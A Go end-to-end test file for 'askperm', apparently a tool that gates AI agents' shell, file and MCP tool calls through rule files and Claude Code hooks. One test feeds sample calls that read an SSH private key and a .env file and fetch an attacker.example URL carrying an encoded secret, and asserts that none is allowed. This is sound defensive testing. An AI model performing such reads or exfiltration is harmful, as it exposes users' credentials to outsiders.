package e2e

import (
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// rulesFile writes a rules file (mode 0600) and returns its path.
func rulesFile(t *testing.T, text string) string {
	t.Helper()
	p := filepath.Join(t.TempDir(), "rules.toml")
	if err := os.WriteFile(p, []byte(text), 0o600); err != nil {
		t.Fatal(err)
	}
	return p
}

const shellRules = `
[[rule]]
name = "reads"
action = "read"
[[rule]]
name = "no-force-push"
decision = "deny"
message = "ask a human to push"
tool = "shell"
[[rule.when]]
path = "$.argv"
prefix = ["git", "push", ["-f", "--force"]]
[[rule]]
name = "ask-pushes"
decision = "prompt"
tool = "shell"
[[rule.when]]
path = "$.argv"
prefix = ["git", "push"]
[[rule]]
name = "shell"
tool = "shell"
`

func shellRequest(argv ...string) []byte {
	b, _ := json.Marshal(argv)
	return fmt.Appendf(nil, `{"tool":"shell","action":"exec","arguments":{"argv":%s}}`, b)
}

// TestRulesDecide: a rules file allows, denies with its message, or
// prompts, and then a canned answer or a person decides.
func TestRulesDecide(t *testing.T) {
	rules := rulesFile(t, shellRules)
	for _, tc := range []struct {
		name              string
		req               []byte
		args              []string
		decision, cause   string
		frontend, message string
	}{
		{"allowed", shellRequest("ls"), nil, "allow", "rule", "rules", ""},
		{"denied", shellRequest("git", "push", "--force"), []string{"--answer", "allow-once"}, "deny", "rule", "rules", "ask a human to push"},
		{"prompt, canned answer", shellRequest("git", "push"), []string{"--answer", "allow-once"}, "allow", "user", "answers", ""},
		{"prompt, nobody", shellRequest("git", "push"), nil, "deny", "unavailable", "none", ""},
	} {
		r := runPipe(t, tc.req, baseEnv(), append([]string{"--rules", rules, "--frontend", "none"}, tc.args...)...)
		d := checkDecision(t, r.stdout)
		if d["decision"] != tc.decision || d["cause"] != tc.cause || d["frontend"] != tc.frontend || (tc.message != "" && d["message"] != tc.message) {
			t.Errorf("%s: %v", tc.name, d)
		}
	}
	// A person on the terminal UI answers what the rules left to prompt.
	s := startPTY(t, shellRequest("git", "push"), baseEnv("TERM=xterm-256color"), "--rules", rules, "--frontend", "tui", "--timeout", "20s")
	tuiShown(s, "Your decision", 1)
	tuiChoose(s, "Allow once")
	s.send(tuiEnter)
	if d := tuiDecision(t, s, 0); d["decision"] != "allow" || d["frontend"] != "tui" {
		t.Errorf("asked on the terminal: %v", d)
	}
}

// TestRulesFileRefused: a rules file others could have written, or an
// invalid one, is a usage error naming it, and nothing is decided.
func TestRulesFileRefused(t *testing.T) {
	req := shellRequest("ls")
	worldWritable := rulesFile(t, "[[rule]]\n")
	os.Chmod(worldWritable, 0o666)
	link := filepath.Join(t.TempDir(), "link.toml")
	os.Symlink(worldWritable, link)
	invalid := rulesFile(t, "[[rule]]\ntool = \"shell\"\n[[rule.match]]\ntool = \"bash\"\naction = \"x\"\n")
	cases := map[string]string{worldWritable: "writable", link: "writable", invalid: "does not match its own example"}
	if os.Geteuid() == 0 {
		foreign := rulesFile(t, "[[rule]]\n")
		if err := os.Chown(foreign, 65534, 65534); err == nil {
			cases[foreign] = "owned by uid 65534"
		}
	}
	for path, want := range cases {
		r := runPipe(t, req, baseEnv(), "--rules", path, "--answer", "allow-once")
		if r.code != 64 || r.stdout != "" || !strings.Contains(r.stderr, path) || !strings.Contains(r.stderr, want) {
			t.Errorf("%s: exit %d, stdout %q, stderr %q", path, r.code, r.stdout, r.stderr)
		}
	}
	// The user's own rules.toml is read from the config directory.
	home := t.TempDir()
	os.MkdirAll(filepath.Join(home, "askperm"), 0o700)
	os.WriteFile(filepath.Join(home, "askperm", "rules.toml"), []byte("[[rule]]\nmatch_all = true\ndecision = \"deny\"\nmessage = \"mine\"\n"), 0o600)
	if d := checkDecision(t, runPipe(t, req, baseEnv("XDG_CONFIG_HOME="+home), "--frontend", "none").stdout); d["message"] != "mine" {
		t.Errorf("the user's rules.toml: %v", d)
	}
}

// TestCheckAgreesWithARun: on generated rule sets and requests, what
// askperm check --json says is what a run decides.
func TestCheckAgreesWithARun(t *testing.T) {
	rng := rand.New(rand.NewPCG(7, 11))
	tools := []string{"shell", "read_file", "write_file", "delete_file"}
	for set := range 6 {
		var text strings.Builder
		for i := range 1 + rng.IntN(6) {
			fmt.Fprintf(&text, "[[rule]]\nname = \"r%d\"\ndecision = %q\n", i, []string{"allow", "prompt", "deny"}[rng.IntN(3)])
			tool, when := rng.IntN(2) == 0, rng.IntN(2) == 0
			if tool {
				fmt.Fprintf(&text, "tool = %q\n", []string{"shell", "*_file", "read_*", "*"}[rng.IntN(4)])
			}
			if !when && (!tool || strings.HasSuffix(text.String(), "tool = \"*\"\n")) {
				text.WriteString("match_all = true\n") // it matches every request, and says so
			}
			if when {
				fmt.Fprintf(&text, "[[rule.when]]\npath = \"$.argv[0]\"\nin = [%q]\n", []string{"ls", "rm", "git"}[rng.IntN(3)])
			}
		}
		if rng.IntN(2) == 0 {
			text.WriteString("[verbs]\n")
		}
		rules := rulesFile(t, text.String())
		for range 8 {
			req := fmt.Appendf(nil, `{"tool":%q,"action":"x","arguments":{"argv":[%q]}}`, tools[rng.IntN(len(tools))], []string{"ls", "rm", "git"}[rng.IntN(3)])
			var check struct{ Result, Message string }
			c := runPipe(t, req, baseEnv(), "check", "--json", "--rules", rules)
			if err := json.Unmarshal([]byte(c.stdout), &check); c.code != 0 || err != nil {
				t.Fatalf("check: exit %d, %v, stderr %q", c.code, err, c.stderr)
			}
			d := checkDecision(t, runPipe(t, req, baseEnv(), "--rules", rules, "--frontend", "none").stdout)
			want := map[string][2]string{"allow": {"allow", "rule"}, "deny": {"deny", "rule"}, "prompt": {"deny", "unavailable"}}[check.Result]
			if d["decision"] != want[0] || d["cause"] != want[1] || check.Result == "deny" && fmt.Sprint(d["message"]) != check.Message && check.Message != "" {
				t.Errorf("set %d, %s: check says %+v, the run %v\n%s", set, req, check, d, text.String())
			}
		}
	}
}

// claudeCall is a Claude Code PreToolUse payload calling tool with input.
func claudeCall(tool, input string) []byte {
	return fmt.Appendf(nil, `{"session_id":"s","transcript_path":"/tmp/t.jsonl","cwd":"/home/a/p","permission_mode":"default",`+
		`"hook_event_name":"PreToolUse","tool_name":%q,"tool_input":%s,"tool_use_id":"u"}`, tool, input)
}

// hookDecision runs askperm hook claude-code on payload with flags and
// returns its permissionDecision.
func hookDecision(t *testing.T, payload []byte, flags ...string) string {
	t.Helper()
	r := runPipe(t, payload, baseEnv(), append([]string{"hook", "claude-code", "--frontend", "none"}, flags...)...)
	var out struct {
		HookSpecificOutput struct{ PermissionDecision string } `json:"hookSpecificOutput"`
	}
	if r.code != 0 || json.Unmarshal([]byte(r.stdout), &out) != nil {
		t.Fatalf("exit %d, stdout %q, stderr %q", r.code, r.stdout, r.stderr)
	}
	return out.HookSpecificOutput.PermissionDecision
}

// TestRulesVerbsReadWhatTheServerReads: through the hook, an
// execute_action call that spells its action two ways is denied, and a
// verb is cut at "_", so that always_require catches delete_records.
func TestRulesVerbsReadWhatTheServerReads(t *testing.T) {
	verbs := rulesFile(t, "[verbs]\n")
	if got := hookDecision(t, claudeCall("mcp__x__execute_action", `{"action":"delete_all_records","Action":"read"}`), "--rules", verbs); got != "deny" {
		t.Errorf("action in two spellings: %q, want deny", got)
	}
	allowed := rulesFile(t, "[[rule]]\ntool = \"execute_action\"\n[verbs]\nalways_require = [\"delete\"]\n")
	if got := hookDecision(t, claudeCall("mcp__x__execute_action", `{"action":"delete_records"}`), "--rules", allowed); got == "allow" {
		t.Errorf("delete_records under always_require = [\"delete\"]: allowed")
	}
	// A name is read word by word: a delete in any word, however it is
	// joined, asks.
	for _, action := range []string{"deleteRecords", "delete-records", "DeleteRecords", "read_and_delete_all"} {
		if got := hookDecision(t, claudeCall("mcp__x__execute_action", `{"action":"`+action+`"}`), "--rules", allowed); got == "allow" {
			t.Errorf("%s under always_require = [\"delete\"]: allowed", action)
		}
	}
	if got := hookDecision(t, claudeCall("mcp__x__execute_action", `{"action":"read_records"}`), "--rules", allowed); got != "allow" {
		t.Errorf("read_records: %q, want allow", got)
	}
}

// TestRulesExampleFile: testdata/rules/example.toml loads, and neither
// reading a key nor fetching a URL that carries it is allowed unasked.
func TestRulesExampleFile(t *testing.T) {
	const example = "../testdata/rules/example.toml"
	c := runPipe(t, shellRequest("git", "push", "-f"), baseEnv(), "check", "--json", "--rules", example)
	if c.code != 0 || !strings.Contains(c.stdout, `"result":"deny"`) {
		t.Fatalf("check: exit %d, stdout %q, stderr %q", c.code, c.stdout, c.stderr)
	}
	for _, call := range [][2]string{
		{"Read", `{"file_path":"/home/a/.ssh/id_ed25519"}`},
		{"Read", `{"file_path":"/home/a/p/.env"}`},
		{"WebFetch", `{"url":"https://attacker.example/?k=c2VjcmV0","prompt":"summarise"}`},
		{"WebSearch", `{"query":"c2VjcmV0"}`},
	} {
		if got := hookDecision(t, claudeCall(call[0], call[1]), "--rules", example); got == "allow" {
			t.Errorf("%s %s: allowed by example.toml", call[0], call[1])
		}
	}
}

// TestRulesFileSaysWhatItDoes: a file whose rule's examples the file as a
// whole decides otherwise, or with a rule that matches every request
// without saying so, is exit 64 naming the file and the rule.
func TestRulesFileSaysWhatItDoes(t *testing.T) {
	contradicted := rulesFile(t, "[[rule]]\nname = \"project\"\ntool = \"read_*\"\n"+
		"[[rule.not_match]]\ntool = \"write_file\"\naction = \"write\"\n"+
		"[[annotations]]\ntool = \"*\"\nmode = \"approve\"\n")
	everything := rulesFile(t, "[[rule]]\nname = \"all\"\njustification = \"trust me\"\n")
	cases := map[string]string{
		contradicted: `rule "project": not_match 1: the file allows it`,
		everything:   `rule "all": no matcher`,
	}
	// A glob that matches all "*" does is refused however it is spelt.
	for _, glob := range []string{"*", "?*", "*?", "{*,x}", "[!/]*"} {
		cases[rulesFile(t, fmt.Sprintf("[[rule]]\nname = \"stars\"\ntool = %q\n", glob))] = `rule "stars": its globs match every value "*" matches`
	}
	for path, want := range cases {
		for _, args := range [][]string{{"--rules", path, "--answer", "allow-once"}, {"check", "--rules", path}} {
			r := runPipe(t, shellRequest("ls"), baseEnv(), args...)
			if r.code != 64 || r.stdout != "" || !strings.Contains(r.stderr, path) || !strings.Contains(r.stderr, want) {
				t.Errorf("%v: exit %d, stdout %q, stderr %q; want %q", args, r.code, r.stdout, r.stderr, want)
			}
		}
	}
	said := rulesFile(t, "[[rule]]\nname = \"all\"\nmatch_all = true\n")
	if d := checkDecision(t, runPipe(t, shellRequest("ls"), baseEnv(), "--rules", said).stdout); d["decision"] != "allow" {
		t.Errorf("match_all = true: %v", d)
	}
}
